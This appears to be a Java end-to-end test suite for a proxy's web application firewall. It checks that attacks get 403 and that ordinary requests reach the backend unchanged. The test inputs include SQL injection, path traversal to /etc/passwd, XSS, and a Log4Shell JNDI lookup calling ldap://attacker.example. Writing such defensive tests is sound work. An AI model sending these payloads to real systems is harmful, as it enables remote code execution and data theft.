package dev.proxy4j.testkit;

import static com.github.tomakehurst.wiremock.client.WireMock.any;
import static com.github.tomakehurst.wiremock.client.WireMock.anyUrl;
import static com.github.tomakehurst.wiremock.client.WireMock.ok;
import static org.assertj.core.api.Assertions.assertThat;

import dev.proxy4j.log.Refusal;
import dev.proxy4j.log.RequestLog;
import dev.proxy4j.waf.Waf;
import dev.proxy4j.waf.WafMode;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.LinkedBlockingQueue;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/**
 * The WAF through a real proxy, over HTTP/1.1 and HTTP/2: what the client gets, exactly what the
 * backend got (nothing when blocked), and the refusal in the request log.
 */
class WafEndToEndTest {

    @RegisterExtension
    static FakeBackend backend = FakeBackend.create();

    private final LinkedBlockingQueue<RequestLog> logs = new LinkedBlockingQueue<>();

    @RegisterExtension
    final ProxyExtension proxy = ProxyExtension.of(b -> b
            .accessLog(false)
            .requestLogListener(logs::add)
            .waf(Waf.builder().mode(WafMode.BLOCK).bodyLimit(16 * 1024).build())
            .route(r -> r.pathPrefix("/detect").waf(Waf.detect()).upstream(backend.uri()))
            .route(r -> r.pathPrefix("/cms").wafExclusions("xss").upstream(backend.uri()))
            .route(r -> r.pathPrefix("/raw").waf(false).upstream(backend.uri()))
            .route(r -> r.pathPrefix("/").upstream(backend.uri())));

    @BeforeEach
    void stub() {
        backend.stubFor(any(anyUrl()).willReturn(ok("from backend")));
    }

    private RequestLog logOf(String method) throws InterruptedException {
        // the log is handed over once the exchange is complete, just after the client has the answer
        for (;;) {
            RequestLog log = logs.poll(30, TimeUnit.SECONDS);
            assertThat(log).as("a request log for " + method).isNotNull();
            if (log.method().equals(method)) {
                return log;
            }
        }
    }

    @ParameterizedTest
    @EnumSource(Protocol.class)
    void attacksInTheQueryHeadersAndPathGet403AndNothingReachesTheBackend(Protocol protocol) throws Exception {
        ProxyClient client = protocol.client(proxy);
        List<ProxyClient.Response> answers = new ArrayList<>();

        answers.add(client.get("/search?q=%27%20OR%20%271%27%3D%271"));
        answers.add(client.get("/search?q=ok", "X-Api-Version", "${${lower:j}ndi:ldap://attacker.example/a}"));
        answers.add(client.get("/static/%252e%252e/%252e%252e/etc/passwd"));
        answers.add(client.get("/download?file=..%2f..%2f..%2fetc%2fpasswd"));
        answers.add(client.get("/app/.git/config"));

        for (ProxyClient.Response answer : answers) {
            assertThat(answer.status()).isEqualTo(403);
            assertThat(answer.body()).isEqualTo("403 Forbidden\nrequest blocked\n");
            assertThat(answer.header("X-Request-Id")).isNotBlank();
            assertThat(answer.header("Cache-Control")).isEqualTo("no-store");
        }
        RequestLog log = logOf("GET");
        assertThat(log.status()).isEqualTo(403);
        assertThat(log.refusal()).contains(Refusal.WAF);
        assertThat(log.attempts()).isEmpty();
        assertThat(backend.receivedRequests()).isEmpty();
    }

    @ParameterizedTest
    @EnumSource(Protocol.class)
    void attacksInJsonAndFormBodiesGet403AndNothingReachesTheBackend(Protocol protocol) throws Exception {
        ProxyClient client = protocol.client(proxy);

        ProxyClient.Response json = client.post("/api/comments", "{\"post\":7,\"text\":\"<script>alert(1)</script>\"}",
                "Content-Type", "application/json");
        ProxyClient.Response form = client.post("/login", "username=admin%27--&password=x",
                "Content-Type", "application/x-www-form-urlencoded");

        assertThat(json.status()).isEqualTo(403);
        assertThat(form.status()).isEqualTo(403);
        assertThat(logOf("POST").refusal()).contains(Refusal.WAF);
        assertThat(backend.receivedRequests()).isEmpty();
    }

    @ParameterizedTest
    @EnumSource(Protocol.class)
    void ordinaryRequestsReachTheBackendExactlyAsSent(Protocol protocol) throws Exception {
        ProxyClient client = protocol.client(proxy);
        String json = "{\"name\":\"Siobhán O'Brien\",\"comment\":\"Rock 'n' roll & 5 > 3 -- don't stop\"}";
        // longer than the body limit: read ahead up to it, then streamed on whole
        String big = "{\"filler\":\"" + "a".repeat(40_000) + "\",\"end\":\"O'Brien\"}";

        ProxyClient.Response search = client.get("/search?q=O%27Brien&sort=-created_at");
        ProxyClient.Response posted = client.post("/api/users", json, "Content-Type", "application/json");
        ProxyClient.Response large = client.post("/api/import", big, "Content-Type", "application/json");

        assertThat(search.status()).isEqualTo(200);
        assertThat(posted.status()).isEqualTo(200);
        assertThat(large.status()).isEqualTo(200);
        assertThat(backend.receivedRequests()).hasSize(3);
        assertThat(backend.receivedRequests().get(0)).satisfies(request -> {
            assertThat(request.method()).isEqualTo("GET");
            assertThat(request.path()).isEqualTo("/search");
            assertThat(request.query()).isEqualTo("q=O%27Brien&sort=-created_at");
        });
        assertThat(backend.receivedRequests().get(1).bodyAsString()).isEqualTo(json);
        assertThat(backend.receivedRequests().get(1).header("Content-Type")).isEqualTo("application/json");
        assertThat(backend.receivedRequests().get(2).bodyAsString()).isEqualTo(big);
    }

    @ParameterizedTest
    @EnumSource(Protocol.class)
    void aPayloadPastTheBodyLimitIsNotInspectedAndStreamsOnWhole(Protocol protocol) {
        ProxyClient client = protocol.client(proxy);
        String late = "{\"filler\":\"" + "a".repeat(20_000) + "\",\"text\":\"<script>alert(1)</script>\"}";

        ProxyClient.Response response = client.post("/api/comments", late, "Content-Type", "application/json");

        assertThat(response.status()).isEqualTo(200);
        assertThat(backend.receivedRequests()).hasSize(1);
        assertThat(backend.receivedRequests().get(0).bodyAsString()).isEqualTo(late);
    }

    @ParameterizedTest
    @EnumSource(Protocol.class)
    void routesDetectExcludeOrOptOut(Protocol protocol) {
        ProxyClient client = protocol.client(proxy);

        ProxyClient.Response detected = client.get("/detect/search?q=%27%20OR%201%3D1--");
        ProxyClient.Response excluded = client.get("/cms/preview?html=%3Cscript%3Ealert(1)%3C/script%3E");
        ProxyClient.Response notExcluded = client.get("/cms/preview?q=%27%20OR%201%3D1--");
        ProxyClient.Response optedOut = client.get("/raw/search?q=%27%20OR%201%3D1--");

        assertThat(detected.status()).as("detection only").isEqualTo(200);
        assertThat(excluded.status()).as("the xss family is excluded on /cms").isEqualTo(200);
        assertThat(notExcluded.status()).as("the rest still runs on /cms").isEqualTo(403);
        assertThat(optedOut.status()).as("no WAF on /raw").isEqualTo(200);
        assertThat(backend.receivedRequests()).extracting(RecordedRequest::path)
                .containsExactly("/detect/search", "/cms/preview", "/raw/search");
    }
}
